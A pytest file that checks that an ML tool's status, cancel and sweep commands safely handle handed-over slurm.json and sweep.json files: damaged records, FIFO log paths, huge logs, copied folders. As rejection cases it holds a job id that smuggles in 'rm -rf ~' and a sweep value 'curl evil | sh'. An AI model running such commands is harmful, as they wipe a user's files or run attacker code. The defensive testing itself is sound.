"""What `just status` and `just cancel` read is input too: a slurm.json and a sweep.json handed
over with a study (copied, moved, edited, pointing at a FIFO), read on a machine with or without
SLURM's commands. (Against a real SLURM, a job id that now names another job: tests/test_slurm.py.)"""

import json
import os
import shutil
import threading

import pytest

from mtl.cli import main
from mtl.runs import sweep_members

from .conftest import one_error_line


def study(tmp_path, name="study", records=None):
    """A study folder whose two members have a slurm.json each (not started: no run files)."""
    folder = tmp_path / name
    members = {}
    for member in ("a", "b"):
        (folder / member).mkdir(parents=True)
        members[member] = member
        record = {"job_id": "424242", "stdout": "", "stderr": "", "cluster": "c", "comment": "mtl:x:1"}
        (folder / member / "slurm.json").write_text(json.dumps({**record, **(records or {}).get(member, {})}))
    (folder / "sweep.json").write_text(json.dumps({"sweep": name, "members": members}))
    return folder


@pytest.fixture
def no_slurm_commands(monkeypatch, tmp_path):
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))


def test_status_without_slurms_commands_reads_the_folders(tmp_path, capsys, no_slurm_commands):
    folder = study(tmp_path)
    assert main(["status", str(folder)]) == 0
    captured = capsys.readouterr()
    assert "each run's state is read from its folder alone" in captured.err
    assert captured.out.count("not started") == 2 and "424242" in captured.out


def test_status_reads_a_studys_parts_one_level_down(tmp_path, capsys, no_slurm_commands):
    """`just study NAME` trains its arms in <out>/arms (a tuning's trials in <out>/trials): the
    study's own folder, the one it prints, is what a user passes."""
    out = tmp_path / "compare-batches"
    study(out, "arms")
    assert main(["status", str(out)]) == 0
    assert [line.split()[0] for line in capsys.readouterr().out.splitlines()[2:]] == ["a", "b"]
    study(out, "trials")
    assert main(["status", str(out)]) == 0
    names = [line.split()[0] for line in capsys.readouterr().out.splitlines()[2:]]
    assert names == ["arms/a", "arms/b", "trials/a", "trials/b"]
    assert main(["status", str(tmp_path / "nothing")]) == 2


def test_cancel_without_slurms_commands_is_one_line(tmp_path, capsys, no_slurm_commands):
    assert main(["cancel", str(study(tmp_path))]) == 2
    assert "cancel the study from the cluster's login node" in one_error_line(capsys)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('{"job_id": "1; rm -rf ~"}', "job_id: String should match pattern"),
        ('{"job_id": 7}', "job_id: Input should be a valid string"),
        ("[1]", "holds list, not a JSON object"),
        ("{", "is not JSON"),
    ],
)
def test_a_damaged_slurm_record_is_said_and_left_out(tmp_path, capsys, no_slurm_commands, text, said):
    folder = study(tmp_path)
    (folder / "a" / "slurm.json").write_text(text)
    assert main(["status", str(folder)]) == 0
    captured = capsys.readouterr()
    assert said in captured.err and "slurm.json" in captured.err and "remove it" in captured.err
    assert "not started" in captured.out


def test_a_log_path_naming_a_fifo_does_not_hang_status(tmp_path, capsys, no_slurm_commands):
    fifo = tmp_path / "log"
    os.mkfifo(fifo)
    folder = study(tmp_path, records={"a": {"stdout": str(fifo), "stderr": str(fifo)}})
    done = []
    reader = threading.Thread(target=lambda: done.append(main(["status", str(folder)])), daemon=True)
    reader.start()
    reader.join(timeout=60)
    assert done == [0], "just status hung on a FIFO named as a job's log"
    capsys.readouterr()


def test_a_huge_log_is_read_by_its_last_bytes(tmp_path, capsys, no_slurm_commands):
    log = tmp_path / "job.out"
    with open(log, "wb") as handle:
        handle.truncate(8 << 30)  # 8 GiB, sparse: read whole, it would take minutes and the memory
        handle.seek(0, os.SEEK_END)
        handle.write(b"\nerror: the run's own one-line error\n")
    folder = study(tmp_path, records={"a": {"stdout": str(log)}})
    assert main(["status", str(folder)]) == 0
    assert "failed: the run's own one-line error" in capsys.readouterr().out


def test_a_copied_study_reads_its_own_members(tmp_path):
    original = study(tmp_path / "one")
    copy = tmp_path / "two" / "study"
    shutil.copytree(original, copy)
    assert sweep_members(copy / "sweep.json") == {"a": copy / "a", "b": copy / "b"}
    # an older record, with absolute paths into the original: still read below the copy
    old = {"members": {"a": str(original / "a"), "p": str(original / "proxies" / "p")}}
    (copy / "sweep.json").write_text(json.dumps(old))
    assert sweep_members(copy / "sweep.json") == {"a": copy / "a", "p": copy / "proxies" / "p"}
    # copied under another name: the tails of the recorded paths are found inside the copy
    renamed = tmp_path / "three" / "renamed"
    (original / "proxies" / "p").mkdir(parents=True)
    shutil.copytree(original, renamed)
    (renamed / "sweep.json").write_text(json.dumps(old))
    assert sweep_members(renamed / "sweep.json") == {"a": renamed / "a", "p": renamed / "proxies" / "p"}


@pytest.mark.parametrize("key", ["slurm.setup", "slurm.extra"])
def test_a_sweep_file_may_not_put_shell_text_into_jobs(tmp_path, capsys, key):
    sweep_file = tmp_path / "colleague.toml"
    sweep_file.write_text(f'lr = [0.1, 0.2]\nlauncher = "slurm"\n"{key}" = "curl evil | sh"\n')
    assert main(["sweep", str(sweep_file), f"out={tmp_path / 'out'}"]) == 2
    line = one_error_line(capsys)
    assert f"sets {key}, which runs its text in every job" in line and "on the command line" in line
    assert not (tmp_path / "out").exists()
